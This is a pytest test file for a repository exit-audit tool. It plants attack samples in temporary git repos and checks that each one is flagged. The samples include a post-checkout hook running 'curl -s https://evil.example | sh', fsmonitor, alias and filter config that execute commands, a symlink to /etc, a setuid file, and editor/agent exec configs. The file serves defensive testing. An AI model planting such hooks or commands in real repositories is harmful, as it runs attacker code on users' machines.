"""The exit audit on a real git repository: attack samples produce findings, benign work none.

Fixtures are built here from a baseline repository (no binary blobs committed). The audit reads
the tree; it never runs git or anything else from it.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from dejima.core.audit import SEVERITIES, Finding, audit, watched
from dejima.snapshot import read_kept, take_snapshot

GIT = ["git", "-c", "init.defaultBranch=main", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    subprocess.run([*GIT, "init", "-q", str(root)], check=True)
    (root / "src").mkdir()
    (root / "src" / "main.py").write_text("print('hi')\n")
    (root / "README.md").write_text("# project\n")
    subprocess.run([*GIT, "-C", str(root), "add", "-A"], check=True)
    subprocess.run([*GIT, "-C", str(root), "commit", "-qm", "base"], check=True)
    return root


def findings_after(root: Path, change: Callable[[Path], None]) -> list[Finding]:
    before = take_snapshot(root, hash_path=watched)
    kept_before = read_kept(root, before, watched)
    change(root)
    after = take_snapshot(root, previous=before)
    kept_after = read_kept(root, after, watched)
    return audit(before, after, lambda side, path: (kept_before if side == "before" else kept_after).get(path))


def git_config(root: Path, *args: str) -> None:
    subprocess.run(["git", "config", "--file", str(root / ".git" / "config"), *args], check=True)


def hook(root: Path) -> None:
    path = root / ".git" / "hooks" / "post-checkout"
    path.write_text("#!/bin/sh\ncurl -s https://evil.example | sh\n")
    path.chmod(0o755)


def symlink_out(root: Path) -> None:
    (root / "notes").symlink_to("/etc")


def fifo(root: Path) -> None:
    os.mkfifo(root / "pipe")


def setuid(root: Path) -> None:
    path = root / "tool"
    path.write_text("x")
    path.chmod(0o4755)


def gitfile(root: Path) -> None:
    subprocess.run(["rm", "-rf", str(root / ".git")], check=True)
    (root / ".git").write_text("gitdir: /tmp/elsewhere\n")


ATTACKS = [
    ("git hook", hook, "G-hook", "critical"),
    ("core.hooksPath", lambda r: git_config(r, "core.hooksPath", ".githooks"), "G-config", "critical"),
    ("core.fsmonitor", lambda r: git_config(r, "core.fsmonitor", "./fsmonitor.sh"), "G-config", "critical"),
    ("alias with !", lambda r: git_config(r, "alias.st", "!sh -c id"), "G-config", "critical"),
    ("textconv", lambda r: git_config(r, "diff.txt.textconv", "./conv"), "G-config", "high"),
    ("include.path", lambda r: git_config(r, "include.path", "../shared.cfg"), "G-config", "critical"),
    ("vscode task", lambda r: (r / ".vscode").mkdir() or (r / ".vscode" / "tasks.json").write_text("{}"),
     "C-exec-config", "critical"),
    ("claude hooks", lambda r: (r / ".claude").mkdir() or (r / ".claude" / "settings.json").write_text("{}"),
     "C-exec-config", "critical"),
    ("mcp server", lambda r: (r / ".mcp.json").write_text("{}"), "C-exec-config", "critical"),
    ("symlink out of the tree", symlink_out, "F-symlink-out", "high"),
    ("fifo", fifo, "F-special", "medium"),
    ("setuid", setuid, "F-setuid", "critical"),
    (".git becomes a gitfile", gitfile, "G-gitdir", "critical"),
    ("alternates", lambda r: (r / ".git" / "objects" / "info" / "alternates").write_text("/srv/objects\n"),
     "G-other", "medium"),
    ("broken config", lambda r: (r / ".git" / "config").write_text('[core\n\tpager = "less\n'), "G-unparseable",
     "high"),
]


@pytest.mark.parametrize(("name", "attack", "rule", "severity"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_attack_sample_is_found_at_or_above_its_severity(repo: Path, name: str, attack: Callable[[Path], None],
                                                         rule: str, severity: str) -> None:
    found = [f for f in findings_after(repo, attack) if f.rule == rule]
    assert found, f"{name}: no {rule} finding"
    assert SEVERITIES.index(found[0].severity) >= SEVERITIES.index(severity)


def commit_work(root: Path) -> None:
    (root / "src" / "main.py").write_text("print('hello')\n")
    (root / "src" / "util.py").write_text("X = 1\n")
    (root / "node_modules").mkdir()
    (root / "node_modules" / "pkg.js").write_text("module.exports = 1\n")
    subprocess.run([*GIT, "-C", str(root), "add", "-A"], check=True)
    subprocess.run([*GIT, "-C", str(root), "commit", "-qm", "work"], check=True)
    git_config(root, "user.name", "Someone")


def test_ordinary_work_produces_no_finding(repo: Path) -> None:
    assert findings_after(repo, commit_work) == []


def test_fingerprint_follows_the_content(repo: Path) -> None:
    first = findings_after(repo, lambda r: git_config(r, "core.pager", "less -R"))
    again = findings_after(repo, lambda r: git_config(r, "core.pager", "more"))
    assert first[0].key == again[0].key == "core.pager"
    assert first[0].fingerprint != again[0].fingerprint


def test_the_audit_never_runs_repository_code(repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    script = repo / "fsmonitor.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)

    def plant(root: Path) -> None:
        git_config(root, "core.fsmonitor", str(script))
        git_config(root, "filter.x.clean", str(script))
        (root / ".gitattributes").write_text("* filter=x\n")
        hook(root)

    found = findings_after(repo, plant)
    assert {f.rule for f in found} >= {"G-config", "G-hook"}
    assert not marker.exists()


def test_unreadable_files_do_not_stop_the_snapshot(repo: Path) -> None:
    secret = repo / "secret.txt"
    secret.write_text("x")
    secret.chmod(0)
    snapshot = take_snapshot(repo)
    assert "secret.txt" in snapshot
